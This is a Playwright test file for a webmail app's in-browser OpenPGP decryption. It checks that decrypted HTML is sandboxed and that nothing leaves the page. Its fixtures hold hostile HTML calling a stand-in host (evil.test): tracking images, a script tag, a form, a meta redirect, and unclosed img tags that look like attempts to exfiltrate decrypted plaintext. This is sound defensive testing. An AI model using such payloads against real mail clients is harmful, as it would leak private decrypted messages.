import type { Page } from '@playwright/test'
import { readFile } from 'node:fs/promises'
import { ImapFlow } from 'imapflow'
import { pgpPerson, pgpSigned, PGP_SIGNED, type PgpPerson } from '#lib/testing/signatures/pgp-people.ts'
import { loadOpenPgp } from '#lib/openpgp/openpgp.ts'
import { expectFitsEverywhere } from '../support/probes/fits-everywhere.ts'
import { personOf } from '../support/site.ts'
import type { Site } from '../support/start-site.ts'
import { expect, testOnOwnSite as test } from '../support/test.ts'

const PASSPHRASE = 'open it'

async function deliver(site: Site, subject: string, type: string, body: string): Promise<void> {
  const { password } = personOf(site, 'alice')
  const client = new ImapFlow({ host: '127.0.0.1', port: site.services.imap?.port ?? 0, secure: false, doSTARTTLS: false, auth: { user: 'alice', pass: password }, logger: false })
  await client.connect()
  const content = [`From: Bob <bob@example.test>`, 'To: alice@example.test', `Subject: ${subject}`, 'Date: Tue, 3 Feb 2026 04:05:06 +0000', 'MIME-Version: 1.0', `Content-Type: ${type}`, '', body].join('\r\n')
  await client.append('INBOX', content)
  await client.logout()
}

async function sealedFor(alice: PgpPerson, bob: PgpPerson, part: string): Promise<string> {
  const pgp = await loadOpenPgp()
  const text = String(await pgp.encrypt({ message: await pgp.createMessage({ binary: new TextEncoder().encode(part) }), encryptionKeys: await pgp.readKey({ armoredKey: alice.kept.text }), signingKeys: bob.key }))
  return ['--s', 'Content-Type: application/pgp-encrypted', '', 'Version: 1', '--s', 'Content-Type: application/octet-stream', '', text, '--s--', ''].join('\r\n')
}

const SEALED = 'multipart/encrypted; protocol="application/pgp-encrypted"; boundary=s'
const INSIDE = ['Content-Type: multipart/mixed; boundary=i', 'Subject: The true subject', '', '--i', 'Content-Type: text/html', '', '<style>b{color:rgb(0, 128, 0)}</style><p>Secret <b>words</b><img src="https://evil.test/leak"><script>document.title="ran"</script><a href="https://evil.test/">a link</a><img alt="own" src="cid:pic@x"><form action="https://evil.test/"><img src="https://evil.test/?',
  '--i', 'Content-Type: text/html', '', '<p>Of another part</p><img src="/api/leak"><meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '--i', 'Content-Type: image/gif; name=pic.gif', 'Content-ID: <pic@x>', 'Content-Transfer-Encoding: base64', '', 'R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==', '--i', 'Content-Type: application/pdf; name=plan.pdf', 'Content-Disposition: attachment; filename=plan.pdf', '', 'the plan', '--i--', ''].join('\r\n')

async function open(page: Page, subject: string): Promise<void> {
  await page.goto('mailboxes/INBOX')
  await page.getByRole('link', { name: subject, exact: true }).first().click()
  await expect(page.getByRole('heading', { name: subject, exact: true })).toBeVisible()
}

test('an encrypted message is opened in the browser with a key that never leaves it', async ({ page, signedIn, site }) => {
  const [alice, bob] = [await pgpPerson('Alice', 'alice@example.test', { passphrase: PASSPHRASE }), await pgpPerson('Bob', 'bob@example.test')]
  await deliver(site, 'Sealed', SEALED, await sealedFor(alice, bob, INSIDE))
  await deliver(site, 'Sealed again', SEALED, await sealedFor(alice, bob, 'Content-Type: text/plain\r\n\r\nSecond secret'))
  await deliver(site, 'Partly sealed', 'multipart/mixed; boundary=o', `--o\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.test/?\r\n--o\r\nContent-Type: ${SEALED}\r\n\r\n${await sealedFor(alice, bob, INSIDE)}\r\n--o--\r\n`)
  await signedIn('alice', page)
  await page.context().request.post(`${site.origin}/api/keys`, { data: { intent: 'add', text: bob.kept.text }, headers: { 'X-Postern': '1' } })
  await open(page, 'Sealed')
  await expect(page.getByText('This message is encrypted with OpenPGP.')).toBeVisible()
  await page.getByRole('button', { name: 'Open the encrypted message' }).click()
  const panel = page.getByRole('form', { name: 'Open the encrypted message' })
  const submit = panel.getByRole('button', { name: 'Open' })
  await expect(submit).toBeEnabled()
  const key = (armored: string) => ({ name: 'key.asc', mimeType: 'application/pgp-keys', buffer: Buffer.from(armored) })
  await panel.getByLabel('Passphrase').fill(PASSPHRASE)
  await panel.getByLabel('Your private key, a file').setInputFiles(key(bob.armored))
  await submit.click()
  await expect(panel.getByRole('alert')).toContainText('This key has no passphrase.')
  await panel.getByLabel('Your private key, a file').setInputFiles(key(alice.armored))
  await panel.getByLabel('Passphrase').fill('wrong')
  await submit.click()
  await expect(panel.getByRole('alert')).toContainText('This is not the passphrase')
  await expectFitsEverywhere(page, 'decrypt')
  await page.setViewportSize({ width: 1280, height: 800 })

  // From here on nothing may leave the page, whatever the message says.
  const asked: string[] = []
  page.on('request', (request) => void (request.url().startsWith('blob:') || asked.push(request.url())))
  await panel.getByLabel('Passphrase').fill(PASSPHRASE)
  await panel.getByLabel('Keep the key open').selectOption('for 10 minutes')
  await submit.click()
  const opened = page.getByRole('region', { name: 'Open the encrypted message' })
  await expect(opened).toContainText('The true subject')
  await expect(opened).toContainText('Signed with a key of bob@example.test that you have not verified.')
  await expect(opened).toContainText('never fetched')
  const frame = opened.locator('iframe').contentFrame()
  const [one, two] = [frame.locator('iframe').nth(0).contentFrame(), frame.locator('iframe').nth(1).contentFrame()]
  await expect(one.getByText('Secret words')).toBeVisible()
  await expect(one.getByText('words', { exact: true })).toHaveCSS('color', 'rgb(0, 128, 0)')
  await expect(one.locator('script, form, img[src]:not([src^="data:image/gif"])')).toHaveCount(0)
  await expect.poll(() => one.getByAltText('own').evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1)
  await expect(one.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer')
  await expect(one.getByText('Of another part'), 'each part is a document of its own').toHaveCount(0)
  await expect(two.getByText('Of another part')).toBeVisible()
  expect(await two.locator('body').evaluate(() => self.origin)).toBe('null')
  await expect(opened.getByRole('link', { name: 'pic.gif' }), 'what is shown is no file beside').toHaveCount(0)
  const [download] = await Promise.all([page.waitForEvent('download'), opened.getByRole('link', { name: 'plan.pdf' }).click()])
  expect(await readFile(await download.path(), 'utf8')).toBe('the plan')
  expect(asked.filter((url) => !/\/(events|favicon)/.test(new URL(url).pathname))).toEqual([])

  await page.getByRole('link', { name: 'Sealed again', exact: true }).first().click()
  await page.getByRole('button', { name: 'Open the encrypted message' }).click()
  await expect(opened, 'the key is still open').toContainText('Second secret')

  await open(page, 'Partly sealed')
  await expect(page.getByText('A part of this message is encrypted. It is not opened here')).toBeVisible()
  await expect(page.getByRole('button', { name: 'Open the encrypted message' })).toHaveCount(0)
  await page.goto('keys')
  await expect(page.getByRole('main')).toContainText('Bob')
  await expectFitsEverywhere(page, 'keys')
})

test.describe('without scripts', () => {
  test.use({ javaScriptEnabled: false })

  test('a signature is shown, its key kept and marked; what is encrypted can be downloaded', async ({ page, signedIn, site }) => {
    const [alice, carol] = [await pgpPerson('Alice', 'alice@example.test', { passphrase: PASSPHRASE }), await pgpPerson('Bob', 'bob@example.test')]
    const { body } = await pgpSigned('Content-Type: text/plain\r\n\r\nSigned words', [carol])
    await deliver(site, 'With a signature', PGP_SIGNED, body)
    await deliver(site, 'Locked', SEALED, await sealedFor(alice, carol, INSIDE))
    await signedIn('alice', page)
    await page.goto('settings')
    await page.getByRole('link', { name: 'Keys and certificates' }).click()
    await page.getByRole('textbox', { name: 'As text' }).fill(carol.kept.text)
    await page.getByRole('button', { name: 'Add', exact: true }).click()
    await expect(page.getByText('Added: Bob.')).toBeVisible()
    await Promise.all([page.waitForEvent('load'), page.getByRole('button', { name: 'Mark as verified: Bob' }).last().click()])
    await open(page, 'With a signature')
    await expect(page.getByText('Signed by bob@example.test.')).toBeVisible()
    await page.getByRole('link', { name: 'About this signature' }).click()
    await expect(page.getByRole('main')).toContainText(carol.kept.fingerprint.match(/.{4}/g)?.join(' ') ?? 'none')
    await open(page, 'Locked')
    await expect(page.getByText('This message is encrypted with OpenPGP.')).toBeVisible()
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Download the encrypted part' }).click()])
    expect(await readFile(await download.path(), 'utf8')).toContain('-----BEGIN PGP MESSAGE-----')
  })
})
